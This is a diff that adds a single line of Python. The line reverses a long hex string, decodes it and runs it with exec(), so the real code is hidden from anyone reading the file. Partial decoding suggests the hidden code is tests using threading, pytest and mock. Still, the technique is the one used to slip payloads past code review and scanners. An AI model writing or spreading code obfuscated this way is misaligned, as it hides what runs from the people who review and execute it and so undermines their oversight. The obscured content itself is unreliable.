@@ -0,0 +1 @@
+_ = lambda __ : bytes.fromhex(__[::-1]);exec((_)( "a09282e69616d6e2473756474796e65702020202a0a322f5f5e69616d6f5f52202d3d302f5f556d616e6f5f5026696a0a0a0929253d34757f656d69647822756e6e61626f5475676e2c69647578256e6f6e43794472756373716e266c65637020202020202020202020202a0a39256e6f6e402a3c6275702164626d616c602c2224616f6c62202c22756e6e61626e2c696475782473656a626f6e28636471607e2b636f6d602864796770202020202020202a0a39266c656378276e6968647f6e6f537275646e65627f54616f6c6e677f646f54656c6961666f5473756470266564602020202a0a09246165627864702c2461656278647f52756e6e61626f5e2c6964757823794472756373716e266c656370202020202020202a092824616f6c6f52756e6e61626f54727164737e2c69647570202020202020202a0461656278647f52756e6e61626f5e2c696475702d3024616562786470202020202020202a092824616f6c6f52756e6e61626f54727164737e2c69647570202020202020202a0a39266c65637825636e6f6f597c6e6f6f5374616f6c6f5473756470266564602020202a0a092222756e6e616262202c29253d34757f656d69647822756e6e61626f5475676e2c696475782c616571754472756373716e266c656370202020202020202a09282475637e256371656c65627e266c656370202020202020202a092921303e203d34757f656d69647822756e6e61626f5475676e2c69647578256e6f6e43794472756373716e266c656370202020202020202a0a39266c656378246564616f6c6f5c69647e657f52756e6e61626f5f6e6f5473756470266564602020202a0a0222756e6e616262202e627574756270202020202020202a092538247961677e256371656c65627e266c656370202020202020202a0a392c6275702c266c65637824616f6c6f577f6c637f50266564602020202a0a092475637e256371656c65627e266c65637820757e61656c634464616e266c656370202020202020202a09207f64737e28636471607820757e61656c634464616e266c65637020202020202020202020202a092824727164737e28636471607020202020202020202020202a0a33756863647160702e6960286364716070227f6660202020202020202a0d50202020202020202a0c2924616f6c6f577f6c637f5e266c6563702c2224616f6c62202c22756e6e61626e2c696475782473656a626f6e28636471607e2b636f6d6020202020202020202020202a0c29256e6f6e402c222461656278647f52756e6e61626f52202c2c696475782473656a626f6e28636471607e2b636f6d6020202020202020202020202a0c292928247e6566754e276e69646165627864702c2229746165627f52756e6e61626f52202c2c696475782473656a626f6e28636471607e2b636f6d6020202020202020202020202a0c29256e6f6e402c2222756e6e61626f52202c2c696475782473656a626f6e28636471607e2b636f6d6020202020202020202020202a0b502d302375686364716070202020202020202a0928247e6566754e276e69646165627864702d30256371656c65627e266c656370202020202020202a0a39266c656378207554756370266564602020202a0a3925637163447375645e2473756474796e65782473756454616f6c42756e6e6162402373716c636a0a0a0c6964757024727f607d696023757e656d6e207071602d6f62766a0a0b636f6d6024727f607d69602473756474796e65702d6f62766a0473756474796e657024727f607d696a076e696461656278647024727f607d696" ));